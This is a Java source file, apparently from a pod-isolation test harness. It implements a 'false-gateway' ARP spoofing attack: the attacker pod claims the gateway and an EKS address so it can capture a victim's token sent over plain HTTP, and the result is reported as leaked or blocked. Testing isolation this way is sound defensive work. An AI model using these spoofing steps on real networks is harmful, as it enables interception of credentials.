package dev.rolecall.isolation.attack.spoof;

import dev.rolecall.isolation.attack.Attack;
import dev.rolecall.isolation.cluster.Cast;
import dev.rolecall.isolation.foothold.Foothold;
import dev.rolecall.isolation.rig.Attachment;
import dev.rolecall.isolation.rig.Namespace;
import dev.rolecall.isolation.rig.PodNetwork;
import dev.rolecall.isolation.rig.Topology;
import dev.rolecall.isolation.scene.Http;
import dev.rolecall.isolation.scene.Outcome;
import dev.rolecall.isolation.scene.Scene;
import java.util.EnumSet;
import java.util.List;
import java.util.Set;

/** Poses as the gateway to the victim and waits for its token, which goes over plain HTTP. */
public final class FalseGateway implements Attack {
  private static final String TRAP = "trap";
  private static final int TIMES = 4;

  @Override
  public String name() {
    return "false-gateway";
  }

  @Override
  public String does() {
    return "tells the victim that the gateway is at the attacker's, with the agent's addresses as its own";
  }

  @Override
  public Set<Topology> topologies() {
    return EnumSet.of(Topology.BRIDGE);
  }

  @Override
  public Outcome run(Scene scene) {
    Attachment own = scene.attachment(Cast.ATTACKER);
    Namespace pod = own.namespace();
    List<String> claimed = List.of(scene.network().gateway(), Http.EKS4);
    String token = scene.tokens().of(Cast.VICTIM);
    Foothold attacker = scene.at(Cast.ATTACKER);
    attacker.trap(TRAP, Http.PORT);
    pod.set("net/ipv4/conf/" + PodNetwork.IN_POD + "/arp_notify", "1");
    claimed.forEach(
        address -> pod.ip("addr add %s/32 dev %s".formatted(address, PodNetwork.IN_POD)));
    try {
      for (int i = 0; i < TIMES; i++) {
        pod.ip("link set %s address %s".formatted(PodNetwork.IN_POD, own.mac()));
        scene.at(Cast.VICTIM).ask(Http.EKS4, Http.PORT, Http.eks(Http.EKS4, token));
      }
    } finally {
      claimed.forEach(
          address -> pod.triesIp("addr del %s/32 dev %s".formatted(address, PodNetwork.IN_POD)));
    }
    String caught = attacker.harvest(TRAP).text();
    scene.attachment(Cast.VICTIM).namespace().triesIp("neigh flush dev " + PodNetwork.IN_POD);
    pod.triesIp("neigh flush dev " + PodNetwork.IN_POD);
    return caught.contains(token)
        ? new Outcome.Leaked("the victim's token went to the attacker")
        : new Outcome.Blocked("nothing of the victim's was caught");
  }
}
